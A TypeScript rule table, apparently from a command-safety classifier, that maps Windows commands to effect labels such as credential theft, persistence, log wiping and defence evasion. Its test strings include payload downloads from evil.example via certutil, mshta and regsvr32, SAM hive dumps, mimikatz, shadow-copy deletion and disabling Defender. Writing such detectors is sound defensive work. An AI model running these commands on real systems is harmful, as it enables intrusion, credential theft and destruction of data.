/** Commands of Windows itself, the same in cmd and in PowerShell. */
import type { Effect } from "../../contract/effect.ts";
import { isSecretHive, registryEffect } from "./registry.ts";
import { ACTS, act, gets, sends, type WindowsRow } from "./row.ts";

/** Services that look for malware or record. */
const WATCHER =
  /defend|sense|mpssvc|wscsvc|eventlog|sysmon|falcon|csagent|sentinel|carbon|cb(?:defense|daemon)?|mcafee|symantec|sophos|cylance|kaspersky|avast|avg|eset|trend|tanium|splunk|winlogbeat|nxlog|elastic|osquery|wazuh|bits?defender/i;

const stops = ({ line }: { readonly line: string }): readonly Effect[] => [
  WATCHER.test(line) ? ACTS.unguarded : ACTS.stopsService,
];

export const CMD: readonly WindowsRow[] = [
  {
    names: "reg",
    line: /^(?:add|delete|import|restore|load|copy)\b/i,
    does: ({ line }) => [/^import/i.test(line) ? ACTS.persists : registryEffect(line)],
    match: [
      "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d calc.exe /f",
      'REG.EXE ADD "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender" /v DisableAntiSpyware /d 1',
      "cmd /c reg add HKLM\\x /v a /d 1",
    ],
    notMatch: ["reg query HKCU\\Software", "echo reg add"],
  },
  {
    names: "reg",
    line: /^(?:save|export)\b/i,
    does: ({ line }) => [isSecretHive(line) || /policy\\secrets|\\cache/i.test(line) ? ACTS.steals : ACTS.hunts],
    match: ["reg save HKLM\\sam C:\\t\\sam", "reg export HKLM\\SYSTEM\\CurrentControlSet\\Control\\Lsa a.reg"],
    notMatch: ["reg query HKLM\\Software"],
  },
  {
    names: "reg",
    line: /^query\b.*(?:passw|PuTTY|WinSCP|VNC|Winlogon|\bpwd|credential|SNMP|AutoLogon)/i,
    does: [ACTS.hunts],
    match: ["reg query HKLM /f password /t REG_SZ /s"],
    notMatch: ["reg query HKLM\\Software\\Node.js"],
  },
  {
    names: "schtasks at",
    line: /\/create|\/change|^\d+:\d+|^\\\\/i,
    does: [ACTS.schedules],
    match: ["schtasks /create /tn x /tr calc.exe /sc daily", "at 13:20 /interactive cmd"],
    notMatch: ["schtasks /query"],
  },
  {
    names: "schtasks",
    line: /\/delete/i,
    does: [act("persist", "delete", "removes a schedule")],
    match: ["schtasks /delete /tn x /f"],
    notMatch: ["schtasks /query"],
  },
  {
    names: "sc",
    line: /\b(?:create|config|failure|sdset)\b/i,
    does: ({ line }) => [
      WATCHER.test(line) || /sdset\s+(?:scmanager|eventlog|vss)/i.test(line) ? ACTS.unguarded : ACTS.persists,
    ],
    match: ['sc create x binPath= "cmd /c calc"', "sc.exe config WinDefend start= disabled"],
    notMatch: ["sc query", "sc qc spooler"],
  },
  {
    names: "sc net",
    line: /^(?:\\\\\S+ )?(?:stop|delete|pause)\b/i,
    does: stops,
    match: ["sc stop spooler", "net stop WinDefend"],
    notMatch: ["sc query", "net use"],
  },
  {
    names: "sc net",
    line: /^(?:\\\\\S+ )?start \S/i,
    does: [ACTS.startsService],
    match: ["net start spooler"],
    notMatch: ["net user"],
  },
  {
    names: "net net1",
    line: /^user\b.*\/add/i,
    does: [ACTS.account],
    match: ["net user evil P@ss /add"],
    notMatch: ["net user"],
  },
  {
    names: "net net1",
    line: /^user\b.*\/del/i,
    does: [ACTS.accountDelete],
    match: ["net user ann /delete"],
    notMatch: ["net user"],
  },
  {
    names: "net net1",
    line: /^user\s+\S+\s+[^/\s]/i,
    does: [ACTS.accountChange],
    match: ["net user ann NewPass1"],
    notMatch: ["net user ann"],
  },
  {
    names: "net net1",
    line: /^(?:local)?group\b.*\/add/i,
    does: [ACTS.admin],
    match: ["net localgroup administrators evil /add"],
    notMatch: ["net localgroup"],
  },
  {
    names: "net net1",
    line: /^accounts\b.*\//i,
    does: [ACTS.weakened],
    match: ["net accounts /maxpwage:unlimited"],
    notMatch: ["net accounts"],
  },
  {
    names: "net net1",
    line: /^share\b.*=/i,
    does: [ACTS.shares],
    match: ["net share x=C:\\x"],
    notMatch: ["net share"],
  },
  {
    names: "net net1",
    line: /^use\b.*(?:\\\\|\/user)/i,
    does: ({ line }) => [
      { do: "network", host: /\\\\([^\\\s]+)/.exec(line)?.[1]?.toLowerCase() ?? null, sends: true },
      ACTS.remote,
    ],
    match: ["net use \\\\server\\share /user:a b"],
    notMatch: ["net use"],
  },
  {
    names: "vssadmin wbadmin wmic diskshadow ntbackup",
    line: /delete (?:shadows?|systemstatebackup|backup|catalog)|shadowcopy.*delete|resize shadowstorage/i,
    does: [ACTS.backups],
    match: [
      "vssadmin delete shadows /all /quiet",
      "wmic shadowcopy delete",
      "wbadmin delete systemstatebackup -keepVersions:0",
    ],
    notMatch: ["vssadmin list shadows"],
  },
  {
    names: "vssadmin wmic diskshadow esentutl",
    line: /create shadow|shadowcopy call create|\/s\s|\/vss|ntds\.dit/i,
    does: [ACTS.steals],
    match: ["vssadmin create shadow /for=C:", "esentutl /y /vss c:\\windows\\ntds\\ntds.dit /d x"],
    notMatch: ["vssadmin list shadows"],
  },
  {
    names: "bcdedit",
    line: /^\/?(?:set|delete|deletevalue|import)/i,
    does: [ACTS.backups],
    match: ["bcdedit /set {default} recoveryenabled no"],
    notMatch: ["bcdedit"],
  },
  {
    names: "format diskpart cipher",
    line: /^(?:[a-z]:|\/s|\/w)/i,
    does: [ACTS.disk],
    match: ["format C: /q", "cipher /w:C:"],
    notMatch: ["cipher /?"],
  },
  {
    names: "del erase rd rmdir deltree",
    line: /\/[sf]\b.*(?:[a-z]:\\(?:\*|windows|users|\$recycle|\s|$)|%(?:systemroot|windir|systemdrive|userprofile|programfiles)%|c:\\\*)/i,
    does: [ACTS.disk],
    match: ["del /s /f /q C:\\*.*", "rd /s /q C:\\Windows", "rd /s /q %systemdrive%\\$RECYCLE.BIN"],
    notMatch: ["del a.txt", "rd /s /q node_modules", "del /f build\\x.obj"],
  },
  {
    names: "del erase",
    line: /prefetch|\.evtx|\\winevt|ConsoleHost_history|\\recent\\|\.log\b/i,
    does: [ACTS.logs],
    match: ["del C:\\Windows\\System32\\winevt\\Logs\\*.evtx"],
    notMatch: ["del a.txt"],
  },
  {
    names: "del erase rd rmdir",
    line: /%te?mp%|\\temp\\|%appdata%|%userprofile%/i,
    does: [{ do: "delete", target: { path: "", certainty: "unknown" }, recursive: true }],
    match: ["del /f %temp%\\x"],
    notMatch: ["del x"],
  },
  {
    names: "wevtutil",
    line: /^(?:cl|clear-log|sl|set-log|um)\b/i,
    does: [ACTS.logs],
    match: ["wevtutil cl System"],
    notMatch: ["wevtutil el"],
  },
  {
    names: "auditpol",
    line: /\/(?:clear|remove|set|restore)/i,
    does: [ACTS.audit],
    match: ["auditpol /clear /y"],
    notMatch: ["auditpol /get /category:*"],
  },
  {
    names: "fsutil",
    line: /usn deletejournal/i,
    does: [ACTS.logs],
    match: ["fsutil usn deletejournal /d c:"],
    notMatch: ["fsutil fsinfo drives"],
  },
  {
    names: "fsutil",
    line: /behavior set|file setzerodata/i,
    does: [ACTS.weakened],
    match: ["fsutil behavior set SymlinkEvaluation R2L:1"],
    notMatch: ["fsutil fsinfo drives"],
  },
  {
    names: "fltmc sysmon sysmon64",
    line: /unload|^-u\b|^-c -/i,
    does: [ACTS.unguarded],
    match: ["fltmc unload SysmonDrv", "sysmon -u"],
    notMatch: ["fltmc"],
  },
  {
    names: "mpcmdrun",
    line: /-removedefinitions|-disable/i,
    does: [ACTS.unguarded],
    match: ["MpCmdRun.exe -RemoveDefinitions -All"],
    notMatch: ["MpCmdRun.exe -Scan"],
  },
  {
    names: "dism",
    line: /disable-feature/i,
    does: ({ line }) => [/defend/i.test(line) ? ACTS.unguarded : ACTS.weakened],
    match: ["Dism /online /Disable-Feature /FeatureName:Windows-Defender"],
    notMatch: ["dism /online /get-features"],
  },
  {
    names: "netsh",
    line: /firewall|advfirewall/i,
    does: ({ line }) => (/show/i.test(line) ? [] : [ACTS.firewall]),
    match: ["netsh advfirewall set allprofiles state off"],
    notMatch: ["netsh interface show interface"],
  },
  {
    names: "netsh",
    line: /add helper/i,
    does: [ACTS.persists],
    match: ["netsh add helper x.dll"],
    notMatch: ["netsh show helper"],
  },
  {
    names: "netsh pktmon",
    line: /trace start|^start\b|capture/i,
    does: [ACTS.sniffs],
    match: ["netsh trace start capture=yes", "pktmon start --etw"],
    notMatch: ["netsh wlan show interfaces"],
  },
  {
    names: "netsh",
    line: /wlan show profile.*key=clear/i,
    does: [ACTS.steals],
    match: ["netsh wlan show profile name=x key=clear"],
    notMatch: ["netsh wlan show profiles"],
  },
  {
    names: "netsh",
    line: /portproxy add|winhttp set proxy/i,
    does: [ACTS.proxied],
    match: ["netsh interface portproxy add v4tov4 listenport=1"],
    notMatch: ["netsh winhttp show proxy"],
  },
  {
    names:
      "certutil bitsadmin desktopimgdownldr mpcmdrun certreq esentutl expand extrac32 finger hh ieexec replace printbrm gup msxsl cmdl32 imewdbld",
    line: /https?:|ftp:|-urlcache|-verifyctl|-split|\/transfer|\/download|-post|-downloadfile|\\\\|@/i,
    does: ({ line }) =>
      /-post/i.test(line)
        ? [
            sends(line),
            { do: "read", target: { path: "/c/windows", certainty: "unknown" }, recursive: false, content: true },
          ]
        : [gets(line), ACTS.installs],
    match: [
      "certutil -urlcache -split -f https://evil.example/x x.exe",
      "bitsadmin /transfer j https://evil.example/x C:\\x",
    ],
    notMatch: ["certutil -hashfile a.exe"],
  },
  {
    names: "certutil",
    line: /-addstore|-importpfx|-exportpfx/i,
    does: ({ line }) => [/export/i.test(line) ? ACTS.steals : ACTS.trusts],
    match: ["certutil -addstore root x.cer"],
    notMatch: ["certutil -store my"],
  },
  {
    names: "certutil",
    line: /-decode|-decodehex|-encode/i,
    does: [ACTS.hidden],
    match: ["certutil -decode a.txt a.exe"],
    notMatch: ["certutil -hashfile a"],
  },
  {
    names:
      "mshta rundll32 regsvr32 msiexec wmic cscript wscript installutil regasm regsvcs msbuild odbcconf pubprn cmstp control forfiles pcalua syncappvpublishingserver",
    line: /(?:script:|\/i:|\/format:["']?)?https?:\/\/|javascript:|vbscript:/i,
    does: ({ line }) => [gets(line), ACTS.fetchedRun],
    match: [
      "mshta https://evil.example/x.hta",
      "regsvr32 /s /n /u /i:https://evil.example/x.sct scrobj.dll",
      "msiexec /q /i https://evil.example/x.msi",
    ],
    notMatch: ["msiexec /?"],
  },
  {
    names: "msiexec",
    line: /\/[iyzp]\b|\/package/i,
    does: [ACTS.installs],
    match: ["msiexec /q /i a.msi"],
    notMatch: ["msiexec /?"],
  },
  {
    names:
      "mshta rundll32 regsvr32 installutil regasm regsvcs msbuild odbcconf pubprn cmstp forfiles pcalua conhost gpscript hh wmic csc vbc jsc scriptrunner mavinject bginfo presentationhost syncappvpublishingserver protocolhandler wlrmdr infdefaultinstall diskshadow dnscmd xwizard te winrm tttracer createdump ieadvpack",
    line: /\S/,
    does: ({ line }) =>
      /^(?:\/node:\S+ )?(?:os|cpu|qfe|process|useraccount|service|product|csproduct|bios|computersystem|logicaldisk)\b[^"]*\b(?:get|list)\b/i.test(
        line,
      ) && !/format:/i.test(line)
        ? []
        : [ACTS.evades],
    match: [
      "rundll32 shell32.dll,Control_RunDLL x.dll",
      "forfiles /p c:\\windows /m notepad.exe /c calc.exe",
      "regsvr32 /s x.dll",
    ],
    notMatch: ["wmic os get caption"],
  },
  {
    names: "wmic",
    line: /process call create|\/node:/i,
    does: ({ line }) => [
      { do: "network", host: /\/node:["']?([^"'\s]+)/i.exec(line)?.[1]?.toLowerCase() ?? "localhost", sends: true },
      ACTS.remote,
      ACTS.evades,
    ],
    match: ['wmic /node:server process call create "calc"'],
    notMatch: ["wmic os get caption"],
  },
  {
    names: "wmic",
    line: /MpPreference|Exclusion/i,
    does: [ACTS.unguarded],
    match: [
      'wmic /namespace:\\\\root\\Microsoft\\Windows\\Defender class MSFT_MpPreference call Add ExclusionPath="C:\\"',
    ],
    notMatch: ["wmic os get caption"],
  },
  {
    names: "psexec psexec64 remcom plink pscp winrs wmiexec paexec",
    does: ({ line }) => [
      {
        do: "network",
        host: /(?:\\\\|@|-ssh\s+["']?|-batch\s+["']?)([\w.-]+)/i.exec(line)?.[1]?.toLowerCase() ?? null,
        sends: true,
      },
      ACTS.remote,
      ACTS.rights,
    ],
    match: ["psexec \\\\server -s cmd", "plink -ssh host.example -l root -pw x id"],
    notMatch: ["ping server"],
  },
  {
    names:
      "mimikatz lazagne rubeus procdump procdump64 gsecdump pypykatz nanodump secretsdump fgdump pwdump pwdump7 xordump dumpert safetykatz sharpkatz kerbrute hashcat netripper",
    does: [ACTS.steals],
    match: ['mimikatz "sekurlsa::logonpasswords"', "procdump -ma lsass.exe x.dmp"],
    notMatch: ["tasklist"],
  },
  {
    names: "ntdsutil dsdbutil cmdkey vaultcmd klist setspn rdrleakdiag nltest dcdiag",
    line: /ac i|ntds|ifm|snapshot|dsrm|\/add|\/generic|\/list|purge|-Q|-T|lsass|fullmemdmp/i,
    does: ({ line }) => [/dsrm|\/generic|\/add/i.test(line) ? ACTS.rights : ACTS.steals],
    match: ['ntdsutil "ac i ntds" ifm', 'vaultcmd /listcreds:"Windows Credentials"'],
    notMatch: ["klist tickets"],
  },
  {
    names: "findstr find select-string",
    line: /passw|cpassword|credential|secret|api.?key/i,
    does: [ACTS.hunts],
    match: ["findstr /s /i password *.xml"],
    notMatch: ["findstr foo a.txt"],
  },
  {
    names: "type copy xcopy robocopy more",
    line: /unattend|sysprep|\\sam\b|ntds\.dit|Login Data|cookies\.sqlite|key[34]\.db|\\\.ssh\\|id_rsa|\\Credentials\\|\\Protect\\|web\.config|groups\.xml/i,
    does: [ACTS.steals],
    match: [
      "type C:\\Windows\\Panther\\unattend.xml",
      'copy "%LOCALAPPDATA%\\Google\\Chrome\\User Data\\Default\\Login Data" x',
    ],
    notMatch: ["type readme.txt"],
  },
  {
    names: "esentutl robocopy copy xcopy",
    line: /Login Data|Cookies|SAM\b|ntds|User Data/i,
    does: [ACTS.steals],
    match: ['esentutl /y "C:\\x\\User Data\\Default\\Login Data" /d y'],
    notMatch: ["xcopy a b"],
  },
  {
    names: "copy xcopy move mklink robocopy echo",
    line: /Start Menu\\Programs\\Startup|\\Startup\\|XLSTART|\\Addins\\|\\spool\\prtprocs|wpbbin/i,
    does: [ACTS.persists],
    match: ['copy x.exe "%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\x.exe"'],
    notMatch: ["copy a b"],
  },
  {
    names: "copy xcopy move robocopy",
    line: /(?:%SystemRoot%|%windir%|C:\\Windows)\\System32\\\w+\.(?:exe|dll)"?\s+(?:\S*\\)?\S+/i,
    does: [ACTS.evades],
    match: ["copy C:\\Windows\\System32\\cmd.exe C:\\lsm.exe"],
    notMatch: ["copy a b"],
  },
  {
    names: "copy xcopy move robocopy",
    line: /\s"?(?:%SystemRoot%|%windir%|C:\\Windows|C:\\inetpub|%ProgramFiles%|C:\\Program Files)\S*"?(?:\s+\/\S+)*$/i,
    does: [ACTS.persists],
    match: ["copy evil.dll C:\\Windows\\System32\\", "xcopy /y shell C:\\inetpub\\wwwroot"],
    notMatch: ["copy C:\\Windows\\win.ini a.ini"],
  },
  {
    names: "takeown icacls cacls attrib",
    line: /\/grant|\/setowner|^\/f\b|\/f\s|[-+][rhs]\b|\/reset/i,
    does: ({ name }) => [name === "attrib" ? ACTS.hidden : ACTS.rights],
    match: ["takeown /f C:\\x /r", "icacls C:\\x /grant Everyone:F", "attrib +h +s x"],
    notMatch: ["icacls C:\\x", "attrib"],
  },
  {
    names: "shutdown",
    line: /\/[rshpgl]\b|-[rshpl]\b/i,
    does: [ACTS.off],
    match: ["shutdown /r /t 0"],
    notMatch: ["shutdown /?"],
  },
  {
    names: "taskkill tskill",
    line: /\S/,
    does: ({ line }) => [WATCHER.test(line) ? ACTS.unguarded : ACTS.kills],
    match: ["taskkill /f /im node.exe", "taskkill /im MsMpEng-sense.exe"],
    notMatch: ["tasklist"],
  },
  {
    names: "pnputil",
    line: /add-driver|-i\b|-a\b/i,
    does: [ACTS.persists],
    match: ["pnputil /add-driver x.inf"],
    notMatch: ["pnputil /enum-drivers"],
  },
  {
    names: "appcmd",
    line: /dontlog:true|delete|set config/i,
    does: [ACTS.unguarded],
    match: ['appcmd set config "x" /section:httplogging /dontLog:true'],
    notMatch: ["appcmd list site"],
  },
  {
    names: "rar winrar 7z makecab zip compress-archive",
    line: /-hp|-p\S|sam|ntds|%userprofile%|\$env:userprofile|\.hiv/i,
    does: [ACTS.hunts],
    match: ["rar a -hpx out.rar %USERPROFILE%\\*.txt"],
    notMatch: ["7z x a.7z"],
  },
  {
    names: "curl wget",
    line: /https?:/i,
    does: ({ line }) =>
      /(?:^|\s)(?:-d|--data\S*|-F|-T|--upload-file|-X\s*(?:POST|PUT))\b/i.test(line)
        ? [sends(line)]
        : [
            gets(line),
            ...(/(?:-o|-O|--output)\b/.test(line) && /\.(?:exe|dll|msi|bat|ps1|vbs|hta|scr|iso|zip)\b/i.test(line)
              ? [ACTS.installs]
              : []),
          ],
    match: ["curl.exe -k https://evil.example/x.dll -o C:\\x.dll"],
    notMatch: ["curl --version"],
  },
  {
    names: "scp sftp ssh ftp tftp",
    line: /@|\S+:/i,
    does: ({ line }) => [
      { do: "network", host: /@?([\w.-]+):/.exec(line)?.[1]?.toLowerCase() ?? null, sends: true },
      ACTS.remote,
    ],
    match: ["scp a user@host.example:/x"],
    notMatch: ["scp"],
  },
  {
    names: "powershell pwsh",
    line: /-e(?:x(?:ec(?:utionpolicy)?)?|p)\s+bypass|-w(?:indowstyle)?\s+h(?:idden)?\b|unrestricted/i,
    does: [ACTS.unchecked],
    match: ["powershell -ep bypass -file x.ps1", "powershell -w hidden -c calc"],
    notMatch: ["powershell -Command Get-Date"],
  },
  {
    names: "query qwinsta tscon",
    line: /dest:|\d+ \/dest|sesshijack/i,
    does: [ACTS.steals],
    match: ["tscon 2 /dest:rdp-tcp#55"],
    notMatch: ["query user"],
  },
  {
    names: "pcalua explorer wt",
    line: /\\\\|https?:/i,
    does: [ACTS.evades],
    match: ["pcalua -a \\\\server\\x.exe"],
    notMatch: ["explorer ."],
  },
];
